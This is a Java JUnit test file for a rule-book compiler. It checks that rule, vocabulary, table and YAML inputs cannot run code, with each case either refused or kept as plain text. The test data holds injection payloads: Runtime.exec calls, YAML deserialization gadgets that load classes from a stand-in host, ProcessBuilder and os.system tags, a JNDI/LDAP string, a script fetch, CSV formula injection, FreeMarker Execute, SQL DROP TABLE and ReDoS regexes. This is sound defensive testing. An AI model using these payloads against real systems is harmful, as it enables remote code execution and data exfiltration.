package io.holdfast.rulebook;

import static io.holdfast.rulebook.SmallBook.acting;
import static io.holdfast.rulebook.SmallBook.rule;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.holdfast.client.Client;
import io.holdfast.decision.DecisionEngine;
import io.holdfast.decision.DecisionJson;
import io.holdfast.decision.Explain;
import io.holdfast.decision.Options;
import io.holdfast.intake.ClientReader;
import io.holdfast.source.Diagnostic;
import io.holdfast.source.Place;
import io.holdfast.source.SourceFiles;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/**
 * Whoever may write rules may not run anything: every text here tries to set a property, write a file, reach a class
 * or the network. Each is refused at its place, or is plain text that stays what it is.
 */
class RulesRunNoCodeTest {

    private static final String CANARY = "holdfast.canary";
    private static final Path FILE = Path.of(System.getProperty("java.io.tmpdir"), "holdfast-canary");
    private static final String SET = "System.setProperty(\"" + CANARY + "\", \"dead\")";
    private static final String EXEC = "Runtime.getRuntime().exec(\"touch " + FILE + "\")";
    private static final LocalDate AS_OF = LocalDate.of(2026, 3, 1);

    @TempDir
    Path folder;

    @BeforeEach
    @AfterEach
    void nothingHasRun() throws IOException {
        assertThat(System.getProperty(CANARY)).isNull();
        assertThat(FILE).doesNotExist();
    }

    private static String speaking(String statement) {
        return rule("X", "$c : Client( status == \"active\" )", "    " + statement + "\n");
    }

    private static String inCells(String keyword, String object, String code, String cell) {
        return "RuleTable Steps,,\n" + keyword + ",ACTION,ACTION\n" + object + ",,\n" + quoted(code)
                + ",\"decision.recommend(\"\"$param\"\")\",\".because(\"\"$param\"\");\"\nasked,action,because\n"
                + quoted(cell) + ",act,so\n";
    }

    private static String inAction(String code, String cell) {
        return "RuleTable Steps,\nCONDITION,ACTION\n$client : Client,\nstatus == \"\"$param\"\","
                        .replace("status == \"\"$param\"\"", "\"status == \"\"$param\"\"\"")
                + quoted(code) + "\nstatus,action\nactive," + quoted(cell) + "\n";
    }

    private static String quoted(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    private static String told(String line) {
        return "rule \"X\"\nwhen\n    The client is active\nthen\n    " + line + "\nend\n";
    }

    private static String asked(String lines) {
        return "rule \"X\"\nwhen\n    " + lines + "\nthen\n    Recommend \"act\" because \"so\"\nend\n";
    }

    private static final String SENTENCES = """
            [when]The client is active=Client( status == "active" )
            [when]- with at least {months} months of tenure=tenureMonths >= {months}
            [then]Recommend "{it}" because "{why}"=decision.recommend("{it}").because("{why}");
            """;

    /**
     * One attempt.
     *
     * @param line where it is refused; 0 for any line that names the canary
     * @param vocabulary the sentences beside it
     */
    private record Attempt(String path, String text, int line, String vocabulary) {

        Attempt(String path, String text) {
            this(path, text, 0);
        }

        Attempt(String path, String text, int line) {
            this(path, text, line, SENTENCES);
        }

        @Override
        public String toString() {
            String said = text.lines()
                    .filter(line -> line.contains("anary"))
                    .findFirst()
                    .orElse(text);
            return path + " " + said.substring(0, Math.min(120, said.length()));
        }

        SourceFiles files() {
            return new SmallBook()
                    .with("vocabulary.dsl", vocabulary)
                    .with(
                            "retention/told.dslr",
                            told("Recommend \"act\" because \"told\"").replace("X", "Told"))
                    .with(path, text)
                    .files();
        }
    }

    private static Attempt drl(String text) {
        return new Attempt("retention/x.drl", text);
    }

    private static Attempt dslr(String text) {
        return new Attempt("retention/x.dslr", text);
    }

    /** A sentence of the vocabulary that means more than it should, and a rule that says it. */
    private static Attempt meaning(String sentence, String asked, String said) {
        return new Attempt(
                "retention/x.dslr",
                "rule \"X\"\nwhen\n    " + asked + "\nthen\n    " + said + "\nend\n",
                0,
                SENTENCES + sentence + "\n");
    }

    private static Attempt table(String text) {
        return new Attempt("retention/x.drl.csv", text);
    }

    private static Attempt table(String text, int line) {
        return new Attempt("retention/x.drl.csv", text, line);
    }

    private static Attempt book(String text) {
        return new Attempt("book.yaml", text);
    }

    static final List<Attempt> REFUSED = List.of(
            // conditions
            drl(acting("X", "Client( " + SET + " == null )")),
            drl(acting("X", "Client( name == " + SET + " )")),
            drl(acting("X", "eval( " + EXEC + " != null )")),
            drl(acting("X", "Client( eval( " + SET + " == null ) )")),
            drl(acting("X", "Client( name.getClass().forName(\"canary\") != null )")),
            drl(acting("X", "Client( class.name == \"canary\" )")),
            drl(acting("X", "Client( this.class.classLoader != null /* canary */ )")),
            drl(acting("X", "Client( $canary : " + SET + " )")),
            drl(acting("X", "$s : String() from " + SET)),
            drl(acting("X", "$s : Client() from entry-point \"canary\"")),
            drl(acting("X", "Client( name matches " + SET + " )")),
            drl(acting("X", "Client( name matches \"(canary+)+$\" )")),
            drl(acting("X", "Client( attributes[" + SET + "] == true )")),
            drl(acting("X", "Client( name in ( " + SET + ", \"b\" ) )")),
            drl(acting("X", "Client( name soundslike \"canary\" )")),
            drl(acting("X", "Client( (\"canary\" + 1) == name )")),
            drl(acting("X", "java.io.File( canary == 1 )")),
            drl(acting("X", "accumulate( Purchase(); $n : sum( " + SET + " ); $n > 1 )")),
            drl(acting("X", "accumulate( Purchase(); $n : canary(1); $n > 1 )")),
            drl(acting("X", "Number() from accumulate( Purchase(), init( " + SET + "; ) action( ) result( 1 ) )")),
            drl(acting("X", "Client( status == \"active\" ) ?canary( $x ; )")),
            drl(acting("X", "forall( Client( " + SET + " == null ) )")),
            drl(acting("X", "Client( \\u006eame == \"canary\" )")),
            drl(acting("X", "Client( name == \"\\u0022 + canary() + \\u0022\" )")),
            drl(acting("X", "Client( name == `canary ${1 + 1}` )")),
            drl(acting("X", "Client( name == STR.\"\\{canary()}\" )")),
            drl(acting("X", "Client( name == \"\"\"canary\"\"\" )")),
            drl(acting("X", "Client( name == (true ? \"canary\" : \"b\") )")),
            drl(acting("X", "Client( name == (String) canary )")),
            drl(acting("X", "Client( name str[startsWith] \"canary\" )")),
            drl(acting("X", "Client( [\"canary\" : 1] contains name )")),
            drl(acting("X", "Client( name in [\"canary\"] )")),
            drl(acting("X", "Client( this#Canary.name == \"x\" )")),
            drl(acting("X", "Client( contract.( end != null, canary() ) )")),
            drl(acting("X", "Client( contract!.canary == 1 )")),
            drl(acting("X", "/clients[ name == \"canary\" ]")),
            drl(acting("X", "Client( status == \"active\" ) over window:time( 1h ) // canary")),
            drl(acting("X", "Client( status == \"active\" ) @watch( canary )")),
            drl(acting("X", "Client() from collect( Contact( action == \"canary\" ) )")),
            drl(acting("X", "not( Client( name == \"x\" ) from canary() )")),
            drl(acting(
                    "X", "accumulate( Purchase( $a : amount, amount != null ); $n : sum( $a * canary() ); $n > 1 )")),
            new Attempt(
                    "retention/x.drl",
                    acting("X", "Client( " + "!( ".repeat(5_000) + "name == \"canary\"" + " )".repeat(5_000) + " )"),
                    1),
            new Attempt(
                    "retention/x.drl",
                    acting("X", "Client( " + "( ".repeat(20_000) + "name == \"canary\"" + " )".repeat(20_000) + " )"),
                    1),
            new Attempt(
                    "retention/x.drl",
                    acting("X", "( ".repeat(5_000) + "Client( name == \"canary\" )" + " )".repeat(5_000)),
                    1),
            // consequences
            drl(speaking("decision.<Canary>recommend(\"act\").because(\"so\");")),
            drl(speaking("decision.recommend((String) \"canary\").because(\"so\");")),
            drl(speaking("decision.recommend(\"act\").because(\"\"\"canary\"\"\");")),
            drl(speaking("decision.recommend(\"act\").because(\"so\\u0022); canary(); //\");")),
            drl(speaking("java.util.function.Function<String, Object> canary = decision::recommend;")),
            drl(speaking("decision.recommend(new String[] {\"canary\"}[0]).because(\"so\");")),
            drl(speaking("synchronized ($c) { decision.recommend(\"canary\"); }")),
            drl(speaking("@Canary int x; decision.recommend(\"act\").because(\"so\");")),
            drl(speaking("/* \\u002a\\u002f canary(); */ decision.recommend(\"act\").because(\"so\");")),
            drl(speaking("kcontext.halt(); // canary")),
            drl(speaking("channels[\"canary\"].send($c);")),
            new Attempt(
                    "retention/x.drl",
                    speaking("decision.recommend(\"act\").because(" + "(".repeat(8_000) + "\"canary\""
                            + ")".repeat(8_000) + ");"),
                    1),
            drl(speaking(SET + ";")),
            drl(speaking(EXEC + ";")),
            drl(speaking("decision.recommend(\"act\").because(" + SET + ");")),
            drl(speaking("decision.recommend(\"act\" + " + SET + ").because(\"so\");")),
            drl(speaking("decision.recommend(\"act\").because(\"x\"); " + SET + ";")),
            drl(speaking("decision.getClass().forName(\"canary\");")),
            drl(speaking("decision.recommend(\"act\").likelihood($c.getClass().canary());")),
            drl(speaking("new java.net.URL(\"http://canary.example\").openStream();")),
            drl(speaking("if (" + SET + " == null) decision.recommend(\"act\").because(\"so\");")),
            drl(speaking("{ " + SET + "; }")),
            drl(speaking("decision.recommend(((java.util.function.Supplier<String>) () -> " + SET + ").get());")),
            drl(speaking("insert( " + SET + " );")),
            drl(speaking("modify( $c ) { canary() }")),
            drl(speaking("kcontext.getKieRuntime().setGlobal(\"canary\", null);")),
            drl(speaking("\\u0053ystem.setProperty(\"" + CANARY + "\", \"dead\");")),
            drl(speaking("decision = null; // canary")),
            drl(speaking("class Canary { static { " + SET + "; } }")),
            // headers, attributes, names
            drl("import java.lang.Runtime // canary\n" + acting("X", "Client()")),
            drl("import function java.lang.System.exit // canary\n" + acting("X", "Client()")),
            drl("global java.lang.Runtime canary\n" + acting("X", "Client()")),
            drl("function void f() { " + SET + "; }\n" + acting("X", "Client()")),
            drl("declare Canary\nend\n" + acting("X", "Client()")),
            drl("query canary()\nend\n" + acting("X", "Client()")),
            drl("dialect \"mvel\" // canary\n" + acting("X", "Client()")),
            drl(acting("X", "Client()").replace("when\n", "salience( " + SET + " )\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "enabled( " + SET + " == null )\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "timer( expr: " + SET + " )\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "dialect \"mvel\" // canary\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "agenda-group \"canary\"\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "activation-group \"canary\"\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "ruleflow-group \"canary\"\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "calendars \"canary\"\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "duration( canary )\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "@Canary( " + SET + " )\nwhen\n")),
            drl(acting("X", "Client()").replace("when\n", "date-effective \"${canary}\"\nwhen\n")),
            drl("unit Canary;\n" + acting("X", "Client()")),
            drl("declare trait Canary\nend\n" + acting("X", "Client()")),
            drl("declare window Canary\n  Client() over window:length( 2 )\nend\n" + acting("X", "Client()")),
            drl("@Canary\n" + acting("X", "Client()")),
            drl(acting("X\"\nwhen\nthen\n" + SET + ";\nend\nrule \"Y", "Client( status == \"active\" )")),
            // reasons
            drl(speaking("decision.recommend(\"act\").because(\"{" + CANARY + "}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{name.getClass().canary}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{System.getProperty('canary')}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{c.class.canary}\");")),
            // sentences
            dslr(told("> " + SET + ";")),
            dslr(told("Recommend \"act\"); " + SET + "; decision.recommend(\"act\" because \"so\"")),
            dslr(told("Recommend \"act\" because \"so\"); " + SET + "; //\"")),
            dslr(told(SET + ";")),
            dslr(asked("> eval( " + SET + " == null )")),
            dslr(asked("The client is active\n    - with at least 3 ) eval( " + SET + " == null months of tenure")),
            dslr(asked("The client is active\n    - with at least " + SET + " months of tenure")),
            new Attempt("vocabulary.dsl", SENTENCES + "[keyword]canary=rule\n"),
            new Attempt("vocabulary.dsl", SENTENCES + "[*]canary=" + SET + "\n"),
            meaning(
                    "[when]The canary sings=eval( " + SET + " == null )",
                    "The canary sings",
                    "Recommend \"act\" because \"so\""),
            meaning(
                    "[when]The canary sings=Client( " + SET + " == null )",
                    "The canary sings",
                    "Recommend \"act\" because \"so\""),
            meaning(
                    "[when]The canary is {it}=Client( name == \"x\" ) eval( {it} )",
                    "The canary is " + SET + " == null",
                    "Recommend \"act\" because \"so\""),
            meaning("[then]Let the canary sing=" + SET + ";", "The client is active", "Let the canary sing"),
            meaning(
                    "[then]Let the canary say {it}=decision.recommend(\"act\").because({it});",
                    "The client is active",
                    "Let the canary say " + SET),
            drl(speaking("decision.recommend(\"act\").because(\"{contract.canary?.end}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{name!canary}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{#canary}\");")),
            drl(speaking("decision.recommend(\"act\").because(\"{{canary}}\");")),
            meaning(
                    "[when]The canary is {it:ENUM:Canary.name}=Client( name == \"{it}\" )",
                    "The client is active",
                    "Let the canary sing"),
            meaning(
                    "[when]The canary is {it:(a+)+}=Client( name == {it} )",
                    "The canary is " + SET,
                    "Recommend \"act\" because \"so\""),
            // tables
            table(inCells("AGENDA-GROUP", "", "canary", "canary"), 2),
            table(inCells("RULEFLOW-GROUP", "", "canary", "canary"), 2),
            table(inCells("ACTIVATION-GROUP", "", "canary", "canary"), 2),
            table(inCells("METADATA", "", "Canary( $param )", "x"), 2),
            table(inCells("CALENDARS", "", "canary", "canary"), 2),
            table(inCells("NO-LOOP", "", "canary", "true"), 2),
            table(inCells("CONDITION", "$client : Client @watch( canary )", "tenureMonths > $param", "3")),
            table(inCells("CONDITION", "$client : Client from canary()", "tenureMonths > $param", "3")),
            table(inCells("CONDITION", "forall( $client : Client ) // canary", "tenureMonths > $param", "3")),
            table(inCells("CONDITION", "$client : Client", "tenureMonths > $param // canary", "3"), 6),
            table(inCells("CONDITION", "$client : Client", "forall(||){ name == \"canary$\" }", "a")),
            table(inCells("CONDITION", "$client : Client", "tenureMonths > $param", "3 ) eval( " + SET + " == null")),
            table(inCells("CONDITION", "$client : Client", "tenureMonths > $param", SET)),
            table(inCells("CONDITION", "", "eval( $param )", SET + " == null")),
            table(inCells("CONDITION", "$client : Client", SET + " == \"$param\"", "canary")),
            table(inCells("PRIORITY", "", "canary", "3"), 2),
            table(inCells("TIMER", "", "canary", "3"), 2),
            table(inAction("decision.recommend(\"$param\").because(\"so\");", "act\"); " + SET + "; //")),
            table(inAction("System.setProperty(\"" + CANARY + "\", \"$param\");", "dead"), 6),
            table("Functions,void f() { " + SET + "; }\n" + inAction("decision.recommend(\"$param\");", "act")),
            table("Import,java.lang.Runtime canary\n" + inAction("decision.recommend(\"$param\");", "act")),
            table("Variables,java.lang.Runtime canary\n" + inAction("decision.recommend(\"$param\");", "act")),
            table("Queries,query canary() end\n" + inAction("decision.recommend(\"$param\");", "act")),
            // settings and catalogue
            book(
                    "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://canary.example\"]]]]\n"
                            + SmallBook.BOOK.replace("name: Small\n", "")),
            book(SmallBook.BOOK + "influence: !!java.util.ArrayList [!!java.io.File [\"canary\"]]\n"),
            book(SmallBook.BOOK.replace(
                    "newsletter: boolean", "newsletter: !!java.io.FileWriter [\"" + FILE + "\"] # canary")),
            book(SmallBook.BOOK.replace("newsletter: boolean", "canary: !!java.lang.Runtime {}")),
            book(SmallBook.BOOK.replace("Europe/Berlin", "!!java.lang.ProcessBuilder [[\"touch\", \"" + FILE + "\"]]")),
            book(SmallBook.BOOK + "canary: !<tag:yaml.org,2002:javax.script.ScriptEngineManager> []\n"),
            book(SmallBook.BOOK.replace("name: Small", "name: !!python/object/apply:os.system [\"touch canary\"]")),
            book(SmallBook.BOOK.replace("attributes:\n", "attributes:\n  <<: &canary { a: number }\n")),
            book(SmallBook.BOOK + "influence: &canary [*canary, *canary]\n"),
            new Attempt("actions.csv", SmallBook.ACTIONS + SmallBook.SELL.replace("sell-it", "${canary}")),
            new Attempt("services.csv", SmallBook.SERVICES.replace("month", "@{canary}")),
            new Attempt("actions.csv", SmallBook.ACTIONS + SmallBook.SELL.replace("sell-it", "../../canary")),
            new Attempt("actions.csv", SmallBook.ACTIONS + SmallBook.SELL.replace("0.5", SET.replace(",", ";") + " ")),
            new Attempt("services.csv", SmallBook.SERVICES.replace(",20,", ",=1+canary(),")));

    @ParameterizedTest(name = "{index} {0}")
    @FieldSource("REFUSED")
    void isRefusedWhereItStands(Attempt attempt) {
        List<Diagnostic> told =
                RuleBookCompiler.standard().compile(attempt.files()).fold(book -> List.<Diagnostic>of(), all -> all);

        List<Integer> lines = new ArrayList<>(List.of(attempt.line()));
        List<String> text = attempt.text().lines().toList();
        for (int i = 0; i < text.size(); i++) {
            if (text.get(i).toLowerCase(java.util.Locale.ROOT).contains("canary")) {
                lines.add(i + 1);
            }
        }
        assertThat(told)
                .as(attempt.text())
                .anyMatch(one -> one.isError()
                        && one.at().line() > 0
                        && ((one.at().file().equals(attempt.path())
                                        && lines.contains(one.at().line()))
                                || isVocabulary(attempt, one.at())))
                .allSatisfy(one -> assertThat(one.line()).doesNotContain("Exception", "our fault", "drools"));
    }

    /** Whether a place is that of a sentence whose meaning holds the attempt. */
    private static boolean isVocabulary(Attempt attempt, Place at) {
        return at.file().equals(Vocabulary.FILE)
                && attempt.files()
                        .text(Vocabulary.FILE)
                        .orElseThrow()
                        .lines()
                        .toList()
                        .get(at.line() - 1)
                        .toLowerCase(java.util.Locale.ROOT)
                        .contains("canary");
    }

    static final List<Attempt> INERT = List.of(
            drl(speaking(
                    "decision.recommend(\"act\").because(\"$jndi:ldap://canary.example #T(Canary) <#assign x=1>\");")),
            drl(speaking("decision.recommend(\"act\").because(\"\\\"); System.setProperty('canary', 'x'); //\");")),
            drl(rule("${canary} '); DROP TABLE x; <script>", "Client( status == \"active\" )", SmallBook.ACT)),
            dslr(told("Recommend \"act\" because \"<script>fetch('http://canary.example')</script>\"")),
            dslr(told("Recommend \"act\" because \"System.exit(0); // canary\"")),
            dslr(told(
                    "Recommend \"act\" because \"$canary #canary @canary [[canary]] <%= canary %> `canary` \u00e9\"")),
            dslr("#/ debug canary\n" + told("Recommend \"act\" because \"canary\"")),
            table(inAction("decision.recommend(\"act\").because(\"$param\");", "+cmd|' /C canary'!A0")),
            table(inAction("decision.recommend(\"act\").because(\"$param\");", "@SUM(canary)")),
            new Attempt("actions.csv", SmallBook.ACTIONS + SmallBook.SELL.replace("cross-sell", "#{canary}")),
            new Attempt(
                    "actions.csv", SmallBook.ACTIONS.replace(",Act,", ",${canary} #{canary} @{canary} [[canary]],")),
            drl(acting("X", "Client( status == \"active\", name != \"${canary} #{canary} @{canary}\" )")),
            book("# !!javax.script.ScriptEngineManager canary\n" + SmallBook.BOOK),
            book(SmallBook.BOOK.replace("name: Small", "name: \"!!javax.script.ScriptEngineManager [canary]\"")),
            table(inAction("decision.recommend(\"act\").because(\"$param\");", "=cmd|' /C canary'!A0")),
            new Attempt(
                    "actions.csv",
                    SmallBook.ACTIONS.replace(",Act,", ",\"=HYPERLINK(\"\"http://canary.example\"\")\",")),
            new Attempt(
                    "services.csv",
                    SmallBook.SERVICES
                            .replace("Hosting", "<#assign canary=\"\"freemarker.template.utility.Execute\"\"?new()>")
                            .replace("<#", "\"<#")
                            .replace("()>", "()>\"")),
            book(SmallBook.BOOK.replace("name: Small", "name: \"${canary} #{Runtime}\"")));

    @ParameterizedTest(name = "{index} {0}")
    @FieldSource("INERT")
    void staysText(Attempt attempt) {
        RuleBook book = RuleBookCompiler.standard().compile(attempt.files()).fold(read -> read, faults -> {
            throw new AssertionError(faults.toString());
        });
        Client client = new ClientReader(book.catalogue().book())
                .read(JsonNodeFactory.instance.objectNode().put("id", "C").put("status", "active"), AS_OF)
                .fold(read -> read, problems -> {
                    throw new AssertionError(problems.toString());
                });
        assertThat(DecisionJson.line(new DecisionEngine().decide(book, client, new Options(9, Explain.FULL))))
                .contains("\"act\"");
    }

    @Test
    void workbooksRunNothingEither() throws IOException {
        for (String cell : List.of("3 ) eval( " + SET + " == null", SET, "FORMULA")) {
            List<Diagnostic> told = RuleBookCompiler.standard()
                    .compile(withWorkbook(inCells("CONDITION", "$client : Client", "tenureMonths > $param", cell)))
                    .fold(book -> List.<Diagnostic>of(), all -> all);
            assertThat(told)
                    .as(cell)
                    .anyMatch(one -> one.isError()
                            && one.at().file().equals("retention/x.drl.xlsx")
                            && one.at().line() == 6);
        }
    }

    private SourceFiles withWorkbook(String csv) throws IOException {
        for (String path : new SmallBook().files().paths()) {
            Path file = folder.resolve(path);
            Files.createDirectories(file.getParent());
            Files.write(file, new SmallBook().files().bytes(path).orElseThrow());
        }
        Files.write(folder.resolve("retention/x.drl.xlsx"), workbook(csv));
        return SourceFiles.read(folder);
    }

    private static byte[] workbook(String csv) throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet();
            List<List<String>> rows =
                    io.holdfast.source.CsvFile.read("x", csv, new io.holdfast.source.Diagnostics()).rows().stream()
                            .map(io.holdfast.source.CsvRow::cells)
                            .toList();
            for (int r = 0; r < rows.size(); r++) {
                Row row = sheet.createRow(r);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    if (rows.get(r).get(c).equals("FORMULA")) {
                        row.createCell(c).setCellFormula("HYPERLINK(\"http://canary.example\")");
                    } else {
                        row.createCell(c).setCellValue(rows.get(r).get(c));
                    }
                }
            }
            workbook.write(out);
            return out.toByteArray();
        }
    }
}
